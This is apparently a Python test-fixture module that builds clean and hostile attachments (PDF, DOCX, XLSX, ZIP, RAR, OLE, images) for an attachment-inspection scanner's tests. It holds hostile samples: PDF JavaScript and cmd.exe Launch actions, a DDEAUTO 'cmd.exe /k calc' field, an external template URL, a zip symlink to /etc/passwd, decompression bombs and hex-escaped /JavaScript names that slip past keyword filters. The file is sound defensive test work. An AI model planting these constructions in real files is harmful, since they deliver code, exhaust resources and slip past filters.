"""Real attachment files, clean and hostile, built in memory for the deep-inspection tests.

Every builder returns bytes made by the real libraries (pikepdf, python-docx,
openpyxl, zipfile, Pillow) or, for RAR headers and OLE, by the published formats.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

VALID_ID = "1101700230708"     # passes the mod-11 check
VALID_ID_2 = "3100600448391"


# -- PDF ---------------------------------------------------------------------
def pdf(text: str = "Annual report 2567", objstm: bool = False, hook=None, **save) -> bytes:
    import pikepdf

    doc = pikepdf.new()
    doc.add_blank_page(page_size=(595, 842))
    page = doc.pages[0]
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
                              BaseFont=pikepdf.Name.Helvetica)
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    page.Contents = doc.make_stream(f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode())
    if hook:
        hook(doc, pikepdf)
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if objstm else pikepdf.ObjectStreamMode.disable
    doc.save(out, object_stream_mode=mode, **save)
    return out.getvalue()


def pdf_js(objstm: bool = False) -> bytes:
    def hook(doc, pikepdf):
        doc.Root.OpenAction = doc.make_indirect(pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x')")))
    return pdf(objstm=objstm, hook=hook)


def pdf_launch() -> bytes:
    def hook(doc, pikepdf):
        doc.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    return pdf(hook=hook)


def pdf_open_uri() -> bytes:
    def hook(doc, pikepdf):
        doc.Root.OpenAction = doc.make_indirect(pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/")))
    return pdf(hook=hook)


def pdf_open_goto() -> bytes:
    """A benign OpenAction (open at page 1, fit width), as Word and LibreOffice write."""
    def hook(doc, pikepdf):
        doc.Root.OpenAction = pikepdf.Array([doc.pages[0].obj, pikepdf.Name.FitH, 842])
    return pdf(hook=hook)


def pdf_embedded() -> bytes:
    def hook(doc, pikepdf):
        doc.attachments["payload.exe"] = pikepdf.AttachedFileSpec(doc, b"MZ payload")
    return pdf(hook=hook)


def pdf_encrypted(user: str = "secret") -> bytes:
    import pikepdf

    return pdf(encryption=pikepdf.Encryption(owner="owner-pass", user=user))


def deflate_repeated(megabytes: int, byte: bytes = b"0", wrapper: bool = True) -> tuple[bytes, int]:
    """A deflate stream of ``megabytes`` MB of one byte, built fast: one fully flushed
    1 MB segment repeated (each decodes without history). Returns (stream, CRC-32)."""
    block_data = byte * (1 << 20)
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = engine.compress(block_data) + engine.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    adler, crc = 1, 0
    for _ in range(megabytes):
        if wrapper:
            adler = zlib.adler32(block_data, adler)
        else:
            crc = zlib.crc32(block_data, crc)
    raw = segment * megabytes + final
    return ((b"\x78\xda" + raw + struct.pack(">I", adler)) if wrapper else raw), crc


def pdf_bomb(megabytes: int = 400) -> bytes:
    packed, _crc = deflate_repeated(megabytes)

    def hook(doc, pikepdf):
        stream = pikepdf.Stream(doc, packed)
        stream.Filter = pikepdf.Name.FlateDecode
        doc.pages[0].Contents = stream
    import pikepdf

    return pdf(hook=hook, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def hex_escape_names(data: bytes) -> bytes:
    """The keyword trick: /JavaScript written as /J#61vaScript (same name to a reader)."""
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


# -- OOXML -------------------------------------------------------------------
def docx(paragraphs=("รายงานประจำปี",)) -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx(rows=(("ชื่อ", "จำนวน"), ("ก", 1))) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "ข้อมูล"
    for row in rows:
        sheet.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rezip(data: bytes, replace: dict | None = None, add: dict | None = None) -> bytes:
    """Copy an OOXML/ZIP, replacing member texts (old->new per member) and adding members."""
    replace, add = replace or {}, add or {}
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            for old, new in replace.get(info.filename, []):
                body = body.replace(old.encode(), new.encode())
            dst.writestr(info.filename, body)
        for name, body in add.items():
            dst.writestr(name, body)
    return out.getvalue()


def add_content_type(data: bytes, part: str, content_type: str) -> bytes:
    override = f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    return rezip(data, replace={"[Content_Types].xml": [("</Types>", override)]})


def docx_with_vba() -> bytes:
    with_part = rezip(docx(), add={"word/vbaProject.bin": OLE_MAGIC + b"\0" * 504})
    return add_content_type(with_part, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")


def docm_renamed() -> bytes:
    return rezip(docx(), replace={"[Content_Types].xml": [(
        "wordprocessingml.document.main+xml", "PLACEHOLDER")]}) if False else rezip(docx(), replace={
        "[Content_Types].xml": [(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml")]})


def xlsx_macro_sheet() -> bytes:
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><xm:macrosheet '
             'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>')
    with_part = rezip(xlsx(), add={"xl/macrosheets/sheet1.xml": sheet})
    return add_content_type(with_part, "xl/macrosheets/sheet1.xml",
                            "application/vnd.ms-excel.macrosheet+xml")


def docx_external_template() -> bytes:
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="http://203.0.113.5/t.dotm" TargetMode="External"/>'
            '</Relationships>')
    return rezip(docx(), add={"word/_rels/settings.xml.rels": rels})


def docx_with_hyperlink() -> bytes:
    """An external hyperlink is normal and must pass."""
    rels_old = "</Relationships>"
    rels_new = ('<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships/hyperlink" Target="https://www.opdc.go.th/" TargetMode="External"/>'
                "</Relationships>")
    return rezip(docx(), replace={"word/_rels/document.xml.rels": [(rels_old, rels_new)]})


def docx_dde() -> bytes:
    field = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows'
             '\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
             "</w:r></w:p></w:body>")
    return rezip(docx(), replace={"word/document.xml": [("</w:body>", field)]})


def docx_embedded_package() -> bytes:
    blob = OLE_MAGIC + b"\0" * 200 + "\x01Ole10Native".encode("utf-16-le") + b"\0" * 300
    return rezip(docx(), add={"word/embeddings/oleObject1.bin": blob})


# -- ZIP ---------------------------------------------------------------------
def zip_of(members: dict, method=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, body in members.items():
            if isinstance(name, zipfile.ZipInfo):
                archive.writestr(name, body)
            else:
                archive.writestr(name, body)
    return out.getvalue()


def zip_symlink() -> bytes:
    info = zipfile.ZipInfo("link-to-passwd")
    info.create_system = 3
    info.external_attr = (0o120777 << 16)
    return zip_of({"readme.txt": "hello", info: "/etc/passwd"})


def zip_encrypted_entry() -> bytes:
    data = bytearray(zip_of({"secret.pdf": b"%PDF-1.4 x"}, zipfile.ZIP_STORED))
    # set the "encrypted" flag in the local and the central header, as zip -e does
    for sig, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sig)
        struct.pack_into("<H", data, at + flag_offset, struct.unpack_from("<H", data, at + flag_offset)[0] | 1)
    return bytes(data)


def raw_zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A ZIP from (name, packed bytes, method, crc, size) members, written by the format."""
    data, central = b"", b""
    for name, packed, method, crc, size in members:
        encoded = name.encode()
        offset = len(data)
        data += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0x800, method, 0, 0x21, crc,
                            len(packed), size, len(encoded), 0) + encoded + packed
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0x800, method, 0, 0x21, crc,
                               len(packed), size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(data), 0)
    return data + central + end


def zip_ratio_bomb(megabytes: int = 400, base: bytes | None = None, name: str = "zeros.txt") -> bytes:
    """One member of ``megabytes`` MB of zeros; with ``base`` (a ZIP/OOXML), its members too."""
    members = []
    if base is not None:
        src = zipfile.ZipFile(io.BytesIO(base))
        for info in src.infolist():
            body = src.read(info)
            members.append((info.filename, body, 0, zlib.crc32(body), len(body)))
    packed, crc = deflate_repeated(megabytes, b"\0", wrapper=False)
    members.append((name, packed, 8, crc, megabytes << 20))
    return raw_zip(members)


def zip_overlapping(entries: int = 50) -> bytes:
    """Many central-directory entries sharing one local file (Fifield's construction)."""
    body = zlib.compress(b"A" * (1 << 20), 9)[2:-4]
    name = b"a.txt"
    crc = zlib.crc32(b"A" * (1 << 20))
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(body), 1 << 20, len(name), 0)
    data = local + name + body
    central = b""
    for i in range(entries):
        entry_name = f"f{i}.txt".encode()
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(body),
                               1 << 20, len(entry_name), 0, 0, 0, 0, 0, 0) + entry_name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, len(central), len(data), 0)
    return data + central + end


# -- RAR headers ---------------------------------------------------------------
def _vint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _rar5_block(header_type: int, flags: int, body: bytes, extra: bytes = b"", data: bytes = b"") -> bytes:
    fields = _vint(header_type) + _vint(flags | (0x1 if extra else 0) | (0x2 if data else 0))
    if extra:
        fields += _vint(len(extra))
    if data:
        fields += _vint(len(data))
    fields += body + extra
    header = _vint(len(fields)) + fields
    return struct.pack("<I", zlib.crc32(header)) + header + data


def rar5(files=(("report.pdf", 1000, 0),), archive_flags: int = 0, encrypted_headers: bool = False,
         symlink: str | None = None, encrypted: bool = False) -> bytes:
    out = b"Rar!\x1a\x07\x01\x00"
    if encrypted_headers:
        return out + _rar5_block(4, 0, _vint(0) + _vint(0) + _vint(15) + b"\0" * 16 + b"\0" * 12)
    out += _rar5_block(1, 0, _vint(archive_flags))
    for name, size, file_flags in files:
        encoded = name.encode()
        body = (_vint(file_flags) + _vint(size) + _vint(0o100644) + _vint(0) + _vint(1)
                + _vint(len(encoded)) + encoded)
        extra = b""
        if encrypted:
            record = _vint(0x01) + b"\0" * 8
            extra += _vint(len(record)) + record
        if symlink and name == symlink:
            record = _vint(0x05) + _vint(1) + _vint(0) + _vint(4) + b"/etc"
            extra += _vint(len(record)) + record
        out += _rar5_block(2, 0, body, extra, b"x" * 10)
    return out + _rar5_block(5, 0, _vint(0))


def rar4(files=(("report.pdf", 1000),), main_flags: int = 0, file_flags: int = 0) -> bytes:
    out = b"Rar!\x1a\x07\x00"
    out += struct.pack("<HBHH", 0, 0x73, main_flags, 13) + b"\0" * 6
    for name, size in files:
        encoded = name.encode()
        head_size = 32 + len(encoded)
        out += struct.pack("<HBHHIIBIIBBHI", 0, 0x74, 0x8000 | file_flags, head_size, 10, size, 2, 0, 0,
                           29, 0x30, len(encoded), 0x20) + encoded + b"y" * 10
    return out + struct.pack("<HBHH", 0, 0x7B, 0x4000, 7)


# -- images ------------------------------------------------------------------
def gps_exif(lat=(13.0, 45.0, 30.0), lon=(100.0, 30.0, 0.0)):
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = "Canon"
    exif[0x8825] = {1: "N", 2: lat, 3: "E", 4: lon}
    return exif


def jpeg(exif=None, size=(64, 48), **save) -> bytes:
    from PIL import Image

    img = Image.new("RGB", size, (30, 120, 200))
    out = io.BytesIO()
    img.save(out, "JPEG", **({"exif": exif} if exif is not None else {}), **save)
    return out.getvalue()


def png(exif=None, size=(64, 48), pnginfo=None) -> bytes:
    from PIL import Image

    img = Image.new("RGB", size, (30, 120, 200))
    out = io.BytesIO()
    kwargs = {}
    if exif is not None:
        kwargs["exif"] = exif
    if pnginfo is not None:
        kwargs["pnginfo"] = pnginfo
    img.save(out, "PNG", **kwargs)
    return out.getvalue()


def jpeg_gps_only_in_thumbnail() -> bytes:
    """Main EXIF clean; the IFD1 thumbnail is a JPEG that carries its own GPS EXIF."""
    from PIL import Image

    thumb = jpeg(exif=gps_exif(), size=(16, 12))
    exif = Image.Exif()
    exif[0x010F] = "Canon"
    main = jpeg(exif=exif)
    segment_start = main.find(b"Exif\x00\x00") + 6
    app1_len_at = segment_start - 8
    tiff = bytearray(main[segment_start:segment_start + struct.unpack(">H", main[app1_len_at:app1_len_at + 2])[0] - 8])
    return _append_ifd1(main, segment_start, app1_len_at, tiff, thumb)


def _append_ifd1(main: bytes, segment_start: int, app1_len_at: int, tiff: bytearray, thumb: bytes) -> bytes:
    endian = "<" if tiff[:2] == b"II" else ">"
    ifd0 = struct.unpack_from(endian + "I", tiff, 4)[0]
    count = struct.unpack_from(endian + "H", tiff, ifd0)[0]
    next_at = ifd0 + 2 + 12 * count
    ifd1 = len(tiff)
    thumb_at = ifd1 + 2 + 2 * 12 + 4
    struct.pack_into(endian + "I", tiff, next_at, ifd1)
    tiff += struct.pack(endian + "H", 2)
    tiff += struct.pack(endian + "HHII", 0x0201, 4, 1, thumb_at)
    tiff += struct.pack(endian + "HHII", 0x0202, 4, 1, len(thumb))
    tiff += struct.pack(endian + "I", 0) + thumb
    segment = b"Exif\x00\x00" + bytes(tiff)
    old_end = app1_len_at + struct.unpack(">H", main[app1_len_at:app1_len_at + 2])[0]
    return main[:app1_len_at] + struct.pack(">H", len(segment) + 2) + segment + main[old_end:]


def jpeg_with_xmp_location() -> bytes:
    xmp = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
           b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="13,45.5N" '
           b'exif:GPSLongitude="100,30.0E"/></rdf:RDF></x:xmpmeta>')
    body = b"http://ns.adobe.com/xap/1.0/\x00" + xmp
    base = jpeg()
    return base[:2] + b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body + base[2:]


def png_with_xmp_location() -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_itxt("XML:com.adobe.xmp", '<x:xmpmeta><rdf:Description exif:GPSLatitude="13,45.5N" '
                                       'exif:GPSLongitude="100,30.0E"/></x:xmpmeta>')
    return png(pnginfo=info)


def png_huge_header(width: int = 100_000, height: int = 100_000) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = lambda kind, body: (struct.pack(">I", len(body)) + kind + body
                                + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF))
    idat = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg_huge_header(width: int = 60000, height: int = 60000) -> bytes:
    data = bytearray(jpeg())
    sof = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


# -- OLE (minimal compound file writer: one FAT sector, one directory sector) ---
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def ole(streams: dict[str, bytes]) -> bytes:
    """A compound file with top-level streams (each padded to >= 4096 bytes, no mini stream)."""
    sector = 512
    bodies = [(name, body + b"\0" * max(0, 4096 - len(body))) for name, body in streams.items()]
    data_sectors = []
    chains = []
    next_free = 2  # sector 0 = FAT, sector 1 = directory
    for _name, body in bodies:
        count = -(-len(body) // sector)
        chains.append((next_free, count))
        data_sectors.append(body + b"\0" * (count * sector - len(body)))
        next_free += count
    fat = [0xFFFFFFFD, 0xFFFFFFFE]
    for start, count in chains:
        fat += [start + i + 1 for i in range(count - 1)] + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (128 - len(fat))
    header = bytearray(512)
    header[0:8] = OLE_MAGIC
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIII", header, 40, 0, 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0)
    struct.pack_into("<II", header, 68, 0xFFFFFFFE, 0)
    struct.pack_into("<I", header, 76, 0)
    for i in range(1, 109):
        struct.pack_into("<I", header, 76 + 4 * i, 0xFFFFFFFF)
    directory = _dir_entry("Root Entry", 5, 0xFFFFFFFE, 0, child=1 if bodies else 0xFFFFFFFF)
    for index, ((name, body), (start, _count)) in enumerate(zip(bodies, chains), start=1):
        right = index + 1 if index < len(bodies) else 0xFFFFFFFF
        directory += _dir_entry(name, 2, start, len(body), right=right)
    directory += b"\0" * (sector - len(directory) % sector if len(directory) % sector else 0)
    assert len(directory) == sector, "at most three streams"
    fat_bytes = struct.pack("<128I", *fat)
    return bytes(header) + fat_bytes + directory + b"".join(data_sectors)


def _dir_entry(name: str, kind: int, start: int, size: int, child=0xFFFFFFFF, right=0xFFFFFFFF) -> bytes:
    encoded = (name + "\0").encode("utf-16-le")
    entry = bytearray(128)
    entry[0:len(encoded)] = encoded
    struct.pack_into("<HBB", entry, 64, len(encoded), kind, 1)
    struct.pack_into("<III", entry, 68, 0xFFFFFFFF, right, child)
    struct.pack_into("<II", entry, 116, start, size)
    return bytes(entry)


def biff_record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def xls_workbook(macro_sheet: bool = False, encrypted: bool = False) -> bytes:
    records = biff_record(0x0809, b"\x00\x06\x05\x00" + b"\0" * 12)
    if encrypted:
        records += biff_record(0x002F, b"\x00\x00" + b"\0" * 52)
    sheet_type = 0x01 if macro_sheet else 0x00
    records += biff_record(0x0085, struct.pack("<IBB", 0, 0, sheet_type) + b"\x06\x00Sheet1")
    records += biff_record(0x000A, b"")
    return ole({"Workbook": records})


def reencode_object_streams(data: bytes, filters: str, encode) -> bytes:
    """Rewrite every /ObjStm of a PDF with another filter chain (qpdf rebuilds the xref
    on open, as readers do). ``encode`` turns the plain object-stream bytes into the
    bytes the ``filters`` chain decodes back."""
    import re as _re

    out, pos = b"", 0
    for match in _re.finditer(rb"<<([^>]*?/Type\s*/ObjStm[^>]*?)>>\s*stream\r?\n", data):
        end = data.find(b"endstream", match.end())
        plain = zlib.decompress(data[match.end():end].rstrip(b"\r\n"))
        body = encode(plain)
        head = _re.sub(rb"/Filter\s*/FlateDecode", filters.encode(), match.group(1))
        head = _re.sub(rb"/Length\s+\d+", b"/Length %d" % len(body), head)
        out += data[pos:match.start()] + b"<<" + head + b">>\nstream\n" + body + b"\n"
        pos = end
    return out + data[pos:]


def png_predict(data: bytes, columns: int) -> bytes:
    """PNG 'Up' predictor rows, as /DecodeParms << /Predictor 12 /Columns n >> expects."""
    rows, prior = [], bytes(columns)
    padded = data + bytes(-len(data) % columns)
    for start in range(0, len(padded), columns):
        line = padded[start:start + columns]
        rows.append(b"\x02" + bytes((a - b) & 0xFF for a, b in zip(line, prior)))
        prior = line
    return b"".join(rows)
